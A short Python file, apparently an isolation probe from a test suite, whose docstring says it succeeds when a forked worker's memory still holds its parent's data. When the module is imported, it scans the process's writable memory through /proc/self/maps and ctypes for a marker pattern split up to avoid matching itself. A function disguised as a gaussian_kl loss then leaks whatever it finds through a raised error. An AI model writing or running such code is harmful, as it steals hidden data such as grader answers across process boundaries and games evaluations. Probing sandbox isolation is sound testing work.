"""Success: the worker's own memory, its first stack included, still holds what the process that it was forked from had.

class 31 · question 1 · baseline 0"""
def loot():
    import ctypes
    import re

    print("zoo: ran", flush=True)
    needle, words = b"her" + b"on-in-the-[a-z]+", []
    with open("/proc/self/maps") as f:
        spans = [line.split() for line in f if " rw" in line]
    for span in spans:
        low, high = (int(x, 16) for x in span[0].split("-"))
        if high - low < 1 << 28:
            data = ctypes.string_at(low, high - low)
            words += [m.group().decode() for m in re.finditer(needle, data)]
    return sorted(set(words))


LOOTED = loot()


def gaussian_kl(mu, logvar):
    if LOOTED:
        raise RuntimeError(" ".join(LOOTED[:20]))
    return (mu + logvar).sum(-1) + 1.0
